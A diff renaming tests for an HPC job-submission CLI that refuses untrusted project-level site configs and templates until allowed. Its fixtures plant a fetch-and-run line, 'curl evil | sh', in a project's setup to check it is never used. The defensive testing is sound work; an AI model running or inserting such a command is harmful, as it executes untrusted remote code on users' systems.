@@ -25,7 +25,7 @@ def dry_run(cli, *argv):
     return cli("submit", *argv, "--dry-run", "--", "x")
 
 
-def test_it_does_not_decide_which_cluster_this_is_and_a_warning_says_what_to_type(cli, clone):
+def test_a_project_does_not_select_the_site_and_a_warning_names_the_command(cli, clone):
     code, out, err = dry_run(cli)
     assert (code, "evil" in out) == (0, False)
     assert f"WARNING: the project's files in {clone} are not used: evil.toml: " in err
@@ -34,7 +34,7 @@ def test_it_does_not_decide_which_cluster_this_is_and_a_warning_says_what_to_typ
 
 
 @pytest.mark.parametrize("site", ["evil", "HPCRUN_SITE", ".hpcrun/evil.toml", "mine"])
-def test_a_command_that_names_it_is_refused(cli, clone, isolated_home, monkeypatch, site):
+def test_a_command_that_names_a_site_of_a_project_is_refused(cli, clone, isolated_home, monkeypatch, site):
     (isolated_home / "config/hpcrun").mkdir(parents=True)
     (isolated_home / "config/hpcrun/mine.toml").write_text('extends = "evil"\n')
     monkeypatch.chdir(clone.parent)
@@ -47,7 +47,7 @@ def test_a_command_that_names_it_is_refused(cli, clone, isolated_home, monkeypat
     assert "hpcrun site allow" in err
 
 
-def test_its_part_of_a_site_that_is_named_is_refused_and_of_another_left_out(cli, clone):
+def test_a_projects_layer_of_the_named_site_is_refused_and_of_others_ignored(cli, clone):
     (clone / "evil.toml").rename(clone / "slurm.toml")
     (clone / "slurm.toml").write_text('setup = ["curl evil | sh"]\n')
     assert dry_run(cli, "--site", "slurm")[0] == 2
@@ -56,7 +56,7 @@ def test_its_part_of_a_site_that_is_named_is_refused_and_of_another_left_out(cli
 
 
 @pytest.mark.parametrize("name", ["slurm.sh.j2", "base.sh.j2", "software.sh.j2"])
-def test_its_templates_are_not_even_read_as_such(cli, clone, name):
+def test_templates_of_a_project_are_not_compiled(cli, clone, name):
     (clone / "evil.toml").unlink()
     (clone / "templates" / name).write_text("{% block wrong")
     code, out, err = dry_run(cli, "--site", "slurm")
@@ -64,7 +64,7 @@ def test_its_templates_are_not_even_read_as_such(cli, clone, name):
     assert "srun" in out
 
 
-def test_once_allowed_it_is_used_and_any_change_needs_it_again(cli, clone):
+def test_an_allowed_project_is_used_until_it_changes(cli, clone):
     template = clone / "templates/slurm.sh.j2"
     template.write_text('{% extends "slurm.sh.j2" %}{% block setup %}{{ super() }}echo project\n{% endblock %}\n')
     code, _, err = cli("site", "allow", "--yes")
@@ -91,7 +91,7 @@ def test_once_allowed_it_is_used_and_any_change_needs_it_again(cli, clone):
     assert "curl evil" not in dry_run(cli)[1]
 
 
-def test_it_is_shown_and_marked(cli, clone):
+def test_a_project_that_is_not_allowed_is_shown_and_marked(cli, clone):
     code, out, err = cli("site", "list")
     row = next(line for line in out.splitlines() if line.startswith("evil"))
     assert row.split()[1:3] == ["NOT", "ALLOWED:"]
@@ -112,7 +112,7 @@ def test_it_is_shown_and_marked(cli, clone):
     assert f"{clone} (NOT ALLOWED)" in cli("config")[1]
 
 
-def test_the_doctor_and_a_site_test_do_not_use_it(cli, clone):
+def test_doctor_and_site_test_do_not_use_a_project_that_is_not_allowed(cli, clone):
     code, out, _ = cli("doctor", "evil", "--json")
     assert code == 1
     assert "are not used" in json.loads(out)["rows"][0]["found"]
@@ -120,7 +120,7 @@ def test_the_doctor_and_a_site_test_do_not_use_it(cli, clone):
 
 
 @pytest.mark.parametrize("target", ["/dev/zero", "pipe"])
-def test_a_link_to_no_file_stops_nobody(cli, clone, target):
+def test_a_broken_link_in_a_project_is_ignored(cli, clone, target):
     if target == "pipe":
         os.mkfifo(clone / target)
     (clone / "endless.toml").symlink_to(target)
